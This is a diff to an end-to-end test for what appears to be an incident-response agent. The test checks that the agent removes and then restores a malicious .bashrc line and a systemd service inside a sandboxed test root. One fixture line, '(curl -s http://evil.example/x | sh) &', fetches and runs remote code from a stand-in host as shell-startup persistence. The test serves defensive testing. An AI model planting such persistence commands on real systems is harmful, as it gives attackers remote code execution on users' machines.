@@ -89,6 +89,9 @@ class Console {
   }
 }
 
+const sysroot = join(work, "sysroot");
+const BASHRC = "alias ll='ls -l'\n(curl -s http://evil.example/x | sh) &\n";
+const UNIT = "[Service]\nExecStart=/opt/evil/svc\n";
 const TOOL = "#!/bin/sh\necho a responder's tool\n";
 const EVIL = Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(200_000, 0x41), Buffer.from("payload\n")]);
 
@@ -120,7 +123,15 @@ beforeAll(async () => {
   // a file left in the working folder by an earlier run is gone once the agent starts
   mkdirSync(join(work, "agent", "work"), { recursive: true });
   writeFileSync(join(work, "agent", "work", "stale.txt"), "from an earlier run");
-  writeFileSync(join(work, "policy.json"), custody(["agent", "policy"]).stdout, { mode: 0o600 });
+  // unit files, cron and autostart entries are looked up under a test root (systemctl is then not called)
+  const policy = { ...JSON.parse(custody(["agent", "policy"]).stdout), remediation: { systemRoot: sysroot } };
+  writeFileSync(join(work, "policy.json"), JSON.stringify(policy), { mode: 0o600 });
+  mkdirSync(join(sysroot, "home", "eve"), { recursive: true });
+  mkdirSync(join(sysroot, "etc", "systemd", "system"), { recursive: true });
+  mkdirSync(join(sysroot, "opt", "evil"), { recursive: true });
+  writeFileSync(join(sysroot, "home", "eve", ".bashrc"), BASHRC);
+  writeFileSync(join(sysroot, "etc", "systemd", "system", "evil.service"), UNIT);
+  writeFileSync(join(sysroot, "opt", "evil", "svc"), "#!/bin/sh\nsleep 600\n", { mode: 0o755 });
   await start(
     ["agent", "run", "--dir", join(work, "agent"), "--policy", join(work, "policy.json")],
     /welcome|connected|agent starting/,
@@ -265,5 +276,31 @@ describe("putfile, remediate and undo, end to end", () => {
     expect(actions).toContain("remediation.undone");
     const ca = readFileSync(join(vault, "pki", "ca.pem"), "utf8");
     expect(verifyCustodyReport(report, { trustAnchors: [ca] }).events).toBe(report.report.events.length);
+  }, 180_000);
+
+  it("remediates a shell init line and a service under the device's system root, with -auto, and undoes both", async () => {
+    const bashrc = join(sysroot, "home", "eve", ".bashrc");
+    const unit = join(sysroot, "etc", "systemd", "system", "evil.service");
+    const con = await connect(CASE);
+    expect((await con.run("remediate startupitem /home/eve/.bashrc:2")).err).toMatch(/ERR_PREREQUISITE/);
+    const line = await con.run("remediate startupitem /home/eve/.bashrc:2 -auto");
+    expect(line.err).toMatch(/\] completed/);
+    expect(line.out).toContain("rewrite");
+    expect(readFileSync(bashrc, "utf8")).toBe("alias ll='ls -l'\n");
+    const lineId = /\[(C-[0-9a-f-]+)\] completed/.exec(line.err)?.[1] as string;
+    expect(/item ([0-9a-f]{64})/.exec(line.err)?.[1]).toBe(createHash("sha256").update(BASHRC).digest("hex"));
+
+    const service = await con.run("remediate service evil -auto");
+    expect(service.err).toMatch(/\] completed/);
+    const serviceId = /\[(C-[0-9a-f-]+)\] completed/.exec(service.err)?.[1] as string;
+    expect(existsSync(unit)).toBe(false);
+    expect(existsSync(join(sysroot, "opt", "evil", "svc"))).toBe(false);
+
+    expect((await con.run(`undo ${lineId}`)).err).toMatch(/\] completed/);
+    expect(readFileSync(bashrc, "utf8")).toBe(BASHRC);
+    expect((await con.run(`undo ${serviceId}`)).err).toMatch(/\] completed/);
+    expect(readFileSync(unit, "utf8")).toBe(UNIT);
+    expect(statSync(join(sysroot, "opt", "evil", "svc")).mode & 0o777).toBe(0o755);
+    await close(con);
   }, 180_000);
 });
